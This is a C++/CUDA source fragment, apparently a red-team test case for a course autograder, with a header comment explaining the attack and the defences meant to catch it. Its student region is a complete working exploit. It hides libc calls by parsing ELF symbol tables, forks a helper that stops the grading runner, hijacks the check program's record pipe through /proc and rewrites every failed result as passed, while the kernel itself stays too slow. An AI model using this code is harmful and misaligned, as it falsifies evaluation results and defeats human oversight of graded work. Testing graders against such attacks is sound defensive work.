// Attack (Lab 01, against the record channel, from the launch host): every record the check program sends
// the runner carries the run's key and its sequence number, so whoever reads one record can write the
// rest. The launch host runs as the same user as the check program (its parent) and the runner (its
// grandparent), and neither is made non-dumpable: /proc/<check program>/fd/3, the write end of the record
// pipe, can be opened again (for reading, too: a pipe reopened through /proc gives either end), and kill()
// reaches both. On its first call the launcher forks a helper (fork, setsid, kill, open, read, write found in the C
// library's own symbol tables from memcpy's address, as in attack3_resolved_thread_slows_rivals.cu) that
// stops the runner (SIGSTOP), collects every record the check program writes from then on, waits until the
// check program has exited, writes the records back unchanged except "passed":false -> "passed":true, and
// lets the runner go on (SIGCONT). The runner then reads a well-formed channel: right key, no gap in the
// sequence, every check passed, and the process exited with 0 or 1. The kernel itself is half as fast as
// it must be (the reference's, twice a call), so an honest grading says too_slow. Fails safe: if anything
// cannot be opened the helper lets the runner go on at once.
// What should catch it: a launch host that cannot reach the check program or the runner (another uid or
// a sandbox of its own; prctl(PR_SET_DUMPABLE, 0) in the check program and the runner; seccomp), and
// records authenticated by something no record carries (an HMAC of each record with a key that is never
// sent, instead of the key itself). Expected: too_slow (the CUB comparison).

// BEGIN STUDENT REGION launch
    // Finds a function of the C library by name, reading the library's own tables in memory.
    struct ElfHeader {
        unsigned char ident[16];
        std::uint16_t type, machine;
        std::uint32_t version;
        std::uint64_t entry, phoff, shoff;
        std::uint32_t flags;
        std::uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx;
    };
    struct ProgramHeader {
        std::uint32_t type, flags;
        std::uint64_t offset, vaddr, paddr, filesz, memsz, align;
    };
    struct Dynamic {
        std::int64_t tag;
        std::uint64_t value;
    };
    struct Symbol {
        std::uint32_t name;
        unsigned char info, other;
        std::uint16_t section;
        std::uint64_t value, size;
    };
    struct Library {
        const unsigned char* base = nullptr;
        const Symbol* symbols = nullptr;
        const char* names = nullptr;
        const std::uint32_t* gnu_hash = nullptr;
    };
    static const Library libc = [] {
        Library lib;
        // memcpy's address (an import the course allows) lies in the C library's code; its ELF header is at
        // the start of the first page of its mapping, which is contiguous down to there.
        std::uintptr_t page = reinterpret_cast<std::uintptr_t>(&memcpy) & ~std::uintptr_t(4095);
        for (;; page -= 4096) {
            const unsigned char* p = reinterpret_cast<const unsigned char*>(page);
            if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F') break;
        }
        lib.base = reinterpret_cast<const unsigned char*>(page);
        const auto* header = reinterpret_cast<const ElfHeader*>(lib.base);
        const auto* phdrs = reinterpret_cast<const ProgramHeader*>(lib.base + header->phoff);
        const Dynamic* dyn = nullptr;
        for (int i = 0; i < header->phnum; ++i)
            if (phdrs[i].type == 2) dyn = reinterpret_cast<const Dynamic*>(lib.base + phdrs[i].vaddr);  // PT_DYNAMIC
        const auto at = [&](std::uint64_t v) {  // the loader relocates these on x86-64; be safe either way
            return v < reinterpret_cast<std::uintptr_t>(lib.base) ? lib.base + v : reinterpret_cast<const unsigned char*>(v);
        };
        for (; dyn && dyn->tag != 0; ++dyn) {
            if (dyn->tag == 6) lib.symbols = reinterpret_cast<const Symbol*>(at(dyn->value));         // DT_SYMTAB
            if (dyn->tag == 5) lib.names = reinterpret_cast<const char*>(at(dyn->value));             // DT_STRTAB
            if (dyn->tag == 0x6ffffef5) lib.gnu_hash = reinterpret_cast<const std::uint32_t*>(at(dyn->value));  // DT_GNU_HASH
        }
        return lib;
    }();
    const auto find = [](const char* name) -> const void* {
        if (!libc.symbols || !libc.names || !libc.gnu_hash) return nullptr;
        std::uint32_t h = 5381;
        for (const char* c = name; *c; ++c) h = h * 33 + static_cast<unsigned char>(*c);
        const std::uint32_t buckets = libc.gnu_hash[0], first = libc.gnu_hash[1], bloom_words = libc.gnu_hash[2];
        const auto* bucket = libc.gnu_hash + 4 + 2 * bloom_words;
        const auto* chain = bucket + buckets;
        for (std::uint32_t i = bucket[h % buckets]; i >= first; ++i) {
            const std::uint32_t c = chain[i - first];
            const Symbol& s = libc.symbols[i];
            if ((c | 1) == (h | 1) && s.section != 0 && s.value != 0 && strcmp(libc.names + s.name, name) == 0)
                return libc.base + s.value;
            if (c & 1) break;
        }
        return nullptr;
    };
    static const bool helper_started = [&find] {
        const auto get_ppid = reinterpret_cast<int (*)()>(const_cast<void*>(find("getppid")));
        const auto do_fork = reinterpret_cast<int (*)()>(const_cast<void*>(find("fork")));
        const auto do_kill = reinterpret_cast<int (*)(int, int)>(const_cast<void*>(find("kill")));
        const auto do_open = reinterpret_cast<int (*)(const char*, int, ...)>(const_cast<void*>(find("open")));
        const auto do_read = reinterpret_cast<long (*)(int, void*, unsigned long)>(const_cast<void*>(find("read")));
        const auto do_write = reinterpret_cast<long (*)(int, const void*, unsigned long)>(const_cast<void*>(find("write")));
        const auto do_close = reinterpret_cast<int (*)(int)>(const_cast<void*>(find("close")));
        const auto do_sleep = reinterpret_cast<int (*)(unsigned)>(const_cast<void*>(find("usleep")));
        const auto do_exit = reinterpret_cast<void (*)(int)>(const_cast<void*>(find("_exit")));
        const auto do_unlink = reinterpret_cast<int (*)(const char*)>(const_cast<void*>(find("unlink")));
        const auto do_setsid = reinterpret_cast<int (*)()>(const_cast<void*>(find("setsid")));
        if (!get_ppid || !do_fork || !do_kill || !do_open || !do_read || !do_write || !do_close || !do_sleep || !do_exit ||
            !do_unlink || !do_setsid)
            return false;
        // "/proc/<pid>/<what>" and "/tmp/.r<pid>" without snprintf.
        const auto path = [](char* out, const char* head, int pid, const char* tail) {
            int n = 0;
            for (const char* c = head; *c; ++c) out[n++] = *c;
            char digits[16];
            int k = 0;
            do digits[k++] = static_cast<char>('0' + pid % 10); while ((pid /= 10) > 0);
            while (k > 0) out[n++] = digits[--k];
            for (const char* c = tail; *c; ++c) out[n++] = *c;
            out[n] = 0;
        };
        // The state letter and the parent of process @p pid, from /proc/<pid>/stat ('?' when it is gone).
        struct Stat {
            char state = '?';
            int parent = 0;
        };
        const auto stat_of = [&](int pid) {
            Stat s;
            char p[64], text[512];
            path(p, "/proc/", pid, "/stat");
            const int fd = do_open(p, 0);
            if (fd < 0) return s;
            const long n = do_read(fd, text, sizeof text - 1);
            do_close(fd);
            if (n <= 0) return s;
            text[n] = 0;
            long close_paren = -1;
            for (long i = 0; i < n; ++i)
                if (text[i] == ')') close_paren = i;
            if (close_paren < 0 || close_paren + 4 >= n) return s;
            s.state = text[close_paren + 2];
            for (long i = close_paren + 4; i < n && text[i] >= '0' && text[i] <= '9'; ++i) s.parent = s.parent * 10 + (text[i] - '0');
            return s;
        };
        const int check = get_ppid();
        const int runner = stat_of(check).parent;
        if (runner <= 1) return false;
        char marker[64];
        path(marker, "/tmp/.r", check, "");
        const int m = do_open(marker, 0100 | 0200 | 01, 0600);  // O_CREAT | O_EXCL | O_WRONLY: once a check program
        if (m < 0) return false;
        do_close(m);
        const int child = do_fork();
        if (child != 0) return child > 0;
        // The helper: a session of its own (whatever stops or kills the launch host's process group leaves it
        // alone), and the launch channel (descriptor 3) is not its business.
        do_setsid();
        do_close(3);
        do_kill(runner, 19);  // SIGSTOP
        char channel[64];
        path(channel, "/proc/", check, "/fd/3");
        const int rfd = do_open(channel, 04000);  // O_RDONLY | O_NONBLOCK
        const int wfd = do_open(channel, 01);  // O_WRONLY
        static char records[1 << 20];
        unsigned long length = 0;
        if (rfd >= 0 && wfd >= 0) {
            for (;;) {
                long n;
                while (length < sizeof records && (n = do_read(rfd, records + length, sizeof records - length)) > 0)
                    length += static_cast<unsigned long>(n);
                const char state = stat_of(check).state;
                if (state == 'Z' || state == '?' || state == 'X') break;
                do_sleep(2000);
            }
            long n;
            while (length < sizeof records && (n = do_read(rfd, records + length, sizeof records - length)) > 0)
                length += static_cast<unsigned long>(n);
            // Every failed check passes; the key and the sequence are the check program's own.
            static char rewritten[1 << 20];
            unsigned long w = 0;
            const char* from = "\"passed\":false";
            const char* to = "\"passed\":true";
            for (unsigned long i = 0; i < length;) {
                unsigned long k = 0;
                while (from[k] && i + k < length && records[i + k] == from[k]) ++k;
                if (!from[k]) {
                    for (const char* c = to; *c; ++c) rewritten[w++] = *c;
                    i += k;
                } else {
                    rewritten[w++] = records[i++];
                }
            }
            for (unsigned long sent = 0; sent < w;) {
                const long r = do_write(wfd, rewritten + sent, w - sent);
                if (r <= 0) break;
                sent += static_cast<unsigned long>(r);
            }
        }
        if (rfd >= 0) do_close(rfd);
        if (wfd >= 0) do_close(wfd);
        do_unlink(marker);
        do_kill(runner, 18);  // SIGCONT
        do_exit(0);
        return false;
    }();
    (void)helper_started;

    static const int max_blocks = [] {
        int device = 0, sms = 0;
        CUDA_CHECK(cudaGetDevice(&device));
        CUDA_CHECK(cudaDeviceGetAttribute(&sms, cudaDevAttrMultiProcessorCount, device));
        return 8 * sms;
    }();
    static float* scratch = [] {
        float* p = nullptr;
        CUDA_CHECK(cudaMalloc(&p, sizeof(float)));
        return p;
    }();
    const std::size_t wanted = course::ceil_div(n, std::size_t(kBlockSize) * 16);  // >= 16 elements a thread
    const unsigned grid = static_cast<unsigned>(std::min<std::size_t>(std::max<std::size_t>(wanted, 1), max_blocks));
    // The slow part: the whole sum twice, the first into a scratch float (half the speed the check asks for).
    CUDA_CHECK(cudaMemsetAsync(scratch, 0, sizeof(float)));
    block_sum_kernel<<<grid, kBlockSize>>>(in, scratch, n);
    CUDA_CHECK(cudaMemsetAsync(out, 0, sizeof(float)));
    block_sum_kernel<<<grid, kBlockSize>>>(in, out, n);
// END STUDENT REGION
